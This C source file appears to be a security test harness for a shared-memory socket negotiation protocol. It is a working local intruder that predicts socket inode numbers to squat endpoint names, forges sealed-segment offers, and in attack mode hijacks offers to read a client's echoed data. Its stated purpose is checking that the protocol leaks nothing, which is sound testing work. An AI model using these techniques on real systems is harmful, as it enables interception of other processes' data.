/* An intruder on the negotiation endpoints, meant to run as another user.
 *
 *   squat SECONDS NAMES [attack]
 *
 * For SECONDS (or until SIGTERM) it does the two things a process that is not the peer can do:
 *  - squat: before the real clients exist, it binds the endpoint names of the next
 *    NAMES socket inodes ("\0shmshim/1/<ino>", the naming rule is public and socket
 *    inodes are allocated in sequence), so that a client's own bind fails and a
 *    server offering to that client connects to the intruder instead; every 5 ms
 *    it looks where the numbers are, and squats further ahead once half of its
 *    names are passed (other processes take numbers too: on a loaded machine the
 *    first names were all passed before the first client connected, hits=0),
 *    without attack only until the first hit;
 *  - forge: it watches /proc/net/unix for live endpoints of pending clients and
 *    sends each a forged offer (a well-formed sealed segment with bytes already in
 *    it, and a socket of its own as "proof").
 * Everything that reaches it on either path is read and counted. On exit it prints
 *   squat: names=N hits=H offers_forged=F bytes_received=B fds_received=D
 * where hits counts servers that connected to a squatted name. The caller decides
 * what must be zero (another user: bytes and descriptors must be).
 *
 * attack: an offer that reaches a squatted name is also taken, as the real client
 * would take it, to see what it yields: the segment is mapped, an answer is sent
 * with the best proof the intruder can make (the client's socket opened O_PATH
 * through /proc/PID/fd, when some process's descriptor table shows that inode and
 * we may open it, else a socket of our own), then the segment is marked attached
 * (the client's own bytes keep coming through the socket, which the server reads:
 * what it echoes goes to the ring once it believes the attach). It takes offers
 * only (no forging). At the end it also prints
 *   attack: taken=T real_proofs=R stolen=S
 * where S counts the bytes the server published into the rings it handed us (the
 * client's data, echoed) and R the answers that carried the real client socket. */
#include <dirent.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <sys/epoll.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "offer.h"
#include "relutil.h"
#include "segment.h"

static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

static uint64_t bytes_received, fds_received, offers_forged, hits;
static uint64_t taken, real_proofs;
static struct shm_seg_layout *segs[4096];
static size_t nsegs;

/* The client's socket, opened O_PATH through some process's /proc/PID/fd, if the
 * intruder can see and may open it: the proof a genuine client would send. */
static int find_socket(uint64_t ino) {
  char want[64], path[600], link[64];
  snprintf(want, sizeof want, "socket:[%llu]", (unsigned long long)ino);
  DIR *d = opendir("/proc");
  struct dirent *e;
  int found = -1;
  while (d && found < 0 && (e = readdir(d))) {
    if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == (int)getpid()) continue;
    char dir[300];
    snprintf(dir, sizeof dir, "/proc/%s/fd", e->d_name);
    struct stat pst;
    /* Only processes of our uid can be opened at all: skip the others' tables. */
    if (stat(dir, &pst) < 0 || pst.st_uid != getuid()) continue;
    DIR *f = opendir(dir);
    struct dirent *g;
    while (f && found < 0 && (g = readdir(f))) {
      snprintf(path, sizeof path, "%s/%s", dir, g->d_name);
      ssize_t n = readlink(path, link, sizeof link - 1);
      if (n <= 0) continue;
      link[n] = 0;
      if (!strcmp(link, want)) found = open(path, O_PATH | O_CLOEXEC);
    }
    if (f) closedir(f);
  }
  if (d) closedir(d);
  return found;
}

/* Takes an offer sent to a squatted name as the real client would (see above). */
static void take(int a, int own_proof) {
  struct shm_offer off;
  struct pollfd p = {a, POLLIN, 0};
  poll(&p, 1, 200);
  int fds[4], nfds, mflags;
  long n = shm_msg_recv(a, &off, sizeof off, MSG_DONTWAIT | MSG_CMSG_CLOEXEC, fds, 4, &nfds, &mflags);
  if (n <= 0) return;
  bytes_received += (uint64_t)n;
  fds_received += (uint64_t)nfds;
  int k = nfds < 4 ? nfds : 4;
  struct stat st;
  if (n != (long)sizeof off || k != 2 || fstat(fds[0], &st) < 0 || nsegs >= sizeof segs / sizeof *segs) {
    for (int i = 0; i < k; i++) close(fds[i]);
    return;
  }
  struct shm_seg_layout *L = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fds[0], 0);
  close(fds[0]);
  close(fds[1]);
  if (L == MAP_FAILED) return;
  int proof = find_socket(off.client_ino);
  if (proof >= 0) real_proofs++;
  shm_proof_send(a, off.client_ino, off.server_ino, proof >= 0 ? proof : own_proof, MSG_DONTWAIT | MSG_NOSIGNAL);
  if (proof >= 0) close(proof);
  uint32_t zero = 0;
  __atomic_compare_exchange_n(&L->conn.attached, &zero, 1, 0, __ATOMIC_ACQ_REL, __ATOMIC_ACQUIRE);
  segs[nsegs++] = L;
  taken++;
}

/* Reads everything queued on a connection, counting bytes and descriptors. */
static void swallow(int fd) {
  char b[4096];
  union {
    struct cmsghdr h;
    char c[CMSG_SPACE(16 * sizeof(int))];
  } ctl;
  for (;;) {
    struct iovec v = {b, sizeof b};
    struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = ctl.c, .msg_controllen = sizeof ctl.c};
    ssize_t n = recvmsg(fd, &m, MSG_DONTWAIT | MSG_CMSG_CLOEXEC);
    if (n <= 0) return;
    bytes_received += (uint64_t)n;
    for (struct cmsghdr *cm = CMSG_FIRSTHDR(&m); cm; cm = CMSG_NXTHDR(&m, cm)) {
      if (cm->cmsg_level != SOL_SOCKET || cm->cmsg_type != SCM_RIGHTS) continue;
      int k = (int)((cm->cmsg_len - CMSG_LEN(0)) / sizeof(int));
      for (int i = 0; i < k; i++) {
        int x;
        memcpy(&x, CMSG_DATA(cm) + i * sizeof(int), sizeof x);
        close(x);
        fds_received++;
      }
    }
  }
}

static uint64_t current_ino(void) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct stat st;
  fstat(s, &st);
  close(s);
  return (uint64_t)st.st_ino;
}

static int forged_segment(void) {
  uint32_t rs = 4096;
  size_t size = shm_seg_size_for(rs);
  int m = (int)syscall(SYS_memfd_create, "squat", MFD_CLOEXEC | MFD_ALLOW_SEALING);
  if (m < 0 || ftruncate(m, (off_t)size) < 0) return -1;
  struct shm_seg_layout *L = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, m, 0);
  if (L == MAP_FAILED) return -1;
  L->hdr = (struct shm_seg_hdr){SHM_SEG_MAGIC, SHM_SEG_VERSION, SHM_SEG_HDR_SIZE, size, rs, 0};
  memcpy((char *)L + SHM_SEG_HDR_SIZE + rs, "INJECTED-BY-SQUATTER", 20);
  L->ring[SHM_DIR_S2C].head = 20;
  munmap(L, size);
  fcntl(m, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL);
  return m;
}

static void forge(uint64_t ino, int proof) {
  int e = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un sa;
  socklen_t sl = rel_endpoint_name(ino, &sa);
  if (connect(e, (struct sockaddr *)&sa, sl) < 0) {
    close(e);
    return;
  }
  int seg = forged_segment();
  if (shm_offer_send(e, 4096, ino, 0, proof, seg, proof, MSG_DONTWAIT | MSG_NOSIGNAL) == (long)sizeof(struct shm_offer))
    offers_forged++;
  close(seg);
  /* Whatever the client sends back (it must send nothing) is counted. */
  usleep(1000);
  swallow(e);
  close(e);
}

/* The names squatted for one CPU: its next inode numbers, from lo to hi. Other
 * processes take numbers too (a loaded machine, tests beside this one, can go
 * through a CPU's whole range between two connections of the victim), so the
 * range moves on once half of it is used up; the one before it stays bound (a
 * client that got a number from it may not have been offered to yet). */
#define GENS 2
struct range {
  uint64_t lo, hi;
  int *fd; /* hi - lo listeners, -1 where the bind failed */
};
static struct range ranges[64][GENS]; /* [cpu][0]: the newest */
static int ncpu, per_cpu, ep;

static void pin(int c) {
  cpu_set_t one;
  CPU_ZERO(&one);
  CPU_SET(c, &one);
  sched_setaffinity(0, sizeof one, &one);
}

/* Binds the names of the next inodes of CPU c (the caller runs there) as its
 * newest range. The sockets come first: they take numbers themselves. */
static int squat_next(int c) {
  struct range *old = &ranges[c][GENS - 1];
  for (uint64_t i = 0; old->fd && i < old->hi - old->lo; i++)
    if (old->fd[i] >= 0) close(old->fd[i]);
  free(old->fd);
  /* Past the newest range's names: they stay bound with it, and bound twice they
   * would go with the older range, which goes first. */
  uint64_t newest_hi = ranges[c][0].fd ? ranges[c][0].hi : 0;
  memmove(&ranges[c][1], &ranges[c][0], (GENS - 1) * sizeof ranges[c][0]);
  struct range *r = &ranges[c][0];
  r->fd = calloc((size_t)per_cpu, sizeof *r->fd);
  if (!r->fd) {
    r->lo = r->hi = 0;
    return 0;
  }
  for (int i = 0; i < per_cpu; i++) r->fd[i] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  r->lo = current_ino() + 1;
  if (r->lo < newest_hi) r->lo = newest_hi;
  r->hi = r->lo + (uint64_t)per_cpu;
  int bound = 0;
  for (int i = 0; i < per_cpu; i++) {
    struct sockaddr_un sa;
    socklen_t sl = rel_endpoint_name(r->lo + (uint64_t)i, &sa);
    struct epoll_event ev = {.events = EPOLLIN, .data.fd = r->fd[i]};
    if (r->fd[i] >= 0 && bind(r->fd[i], (struct sockaddr *)&sa, sl) == 0 && listen(r->fd[i], 8) == 0 &&
        epoll_ctl(ep, EPOLL_CTL_ADD, r->fd[i], &ev) == 0) {
      bound++;
    } else if (r->fd[i] >= 0) {
      close(r->fd[i]);
      r->fd[i] = -1;
    }
  }
  return bound;
}

/* Each CPU's next number: a new range where half of the newest is used up. */
static int resquat(void) {
  cpu_set_t all;
  sched_getaffinity(0, sizeof all, &all);
  int bound = 0;
  for (int c = 0; c < ncpu; c++) {
    pin(c);
    uint64_t cur = current_ino();
    struct range *r = &ranges[c][0];
    if (!r->fd || cur >= r->lo + (uint64_t)per_cpu / 2) bound += squat_next(c);
  }
  sched_setaffinity(0, sizeof all, &all);
  return bound;
}

static int squatted(uint64_t ino) {
  for (int c = 0; c < ncpu; c++)
    for (int g = 0; g < GENS; g++)
      if (ranges[c][g].fd && ino >= ranges[c][g].lo && ino < ranges[c][g].hi) return 1;
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3 && !(argc == 4 && !strcmp(argv[3], "attack"))) {
    fprintf(stderr, "usage: squat SECONDS NAMES [attack]\n");
    return 2;
  }
  int secs = atoi(argv[1]), names = atoi(argv[2]), attack = argc == 4;
  alarm((unsigned)secs + 30);
  /* Two ranges per CPU, each with its own sockets. */
  struct rlimit rl = {(rlim_t)names * 2 * GENS + 256, (rlim_t)names * 2 * GENS + 256};
  if (setrlimit(RLIMIT_NOFILE, &rl) < 0 && getrlimit(RLIMIT_NOFILE, &rl) == 0) {
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
  }
  /* The kernel hands out inode numbers from per-CPU batches, so the next numbers
   * are looked up on every CPU and each gets its share of the names. */
  ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN);
  if (ncpu < 1) ncpu = 1;
  if (ncpu > 64) ncpu = 64;
  per_cpu = names / ncpu > 0 ? names / ncpu : 1;
  ep = epoll_create1(EPOLL_CLOEXEC);
  int bound = resquat();
  int proof = socket(AF_INET, SOCK_STREAM, 0);
  int proof_own = -1;
  {
    char pp[40];
    snprintf(pp, sizeof pp, "/proc/self/fd/%d", proof);
    proof_own = open(pp, O_PATH | O_CLOEXEC); /* a socket, but not the client's */
  }
  printf("ready %d\n", bound);
  fflush(stdout);
  signal(SIGTERM, on_term);
  uint64_t end = rel_now_ns() + (uint64_t)secs * REL_NS_PER_S;
  uint64_t seen[4096];
  size_t nseen = 0;
  uint64_t next_look = rel_now_ns();
  while (rel_now_ns() < end && !stop) {
    /* Without attack, once a name was hit the rest of the clients' endpoints are
     * left live, for the forging below to find (names past are not squatted anew:
     * with 16 names, every endpoint but one was squatted, and no offer forged). */
    if ((attack || hits == 0) && rel_now_ns() >= next_look) {
      resquat();
      next_look = rel_now_ns() + 5 * REL_NS_PER_S / 1000;
    }
    struct epoll_event evs[64];
    int n = epoll_wait(ep, evs, 64, 2);
    if (n > 0) {
      for (int i = 0; i < n; i++) {
        int a;
        while ((a = accept4(evs[i].data.fd, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
          hits++;
          if (attack) {
            take(a, proof_own);
          } else {
            usleep(2000); /* a server that trusted us would have sent its offer by now */
            swallow(a);
          }
          close(a);
        }
      }
    }
    /* Live endpoints of pending clients, each forged once. */
    FILE *f = attack ? NULL : fopen("/proc/net/unix", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f)) {
      char *p = strstr(line, "@shmshim/1/");
      if (!p) continue;
      uint64_t ino = strtoull(p + 11, NULL, 10);
      if (squatted(ino)) continue;
      int dup = 0;
      for (size_t i = 0; i < nseen && !dup; i++) dup = seen[i] == ino;
      if (dup) continue;
      if (nseen < sizeof seen / sizeof *seen) seen[nseen++] = ino;
      forge(ino, proof);
    }
    if (f) fclose(f);
  }
  printf("squat: names=%d hits=%llu offers_forged=%llu bytes_received=%llu fds_received=%llu\n", bound,
         (unsigned long long)hits, (unsigned long long)offers_forged, (unsigned long long)bytes_received,
         (unsigned long long)fds_received);
  if (attack) {
    uint64_t stolen = 0;
    for (size_t i = 0; i < nsegs; i++)
      stolen += __atomic_load_n(&segs[i]->ring[SHM_DIR_S2C].head, __ATOMIC_ACQUIRE);
    printf("attack: taken=%llu real_proofs=%llu stolen=%llu\n", (unsigned long long)taken,
           (unsigned long long)real_proofs, (unsigned long long)stolen);
  }
  return 0;
}
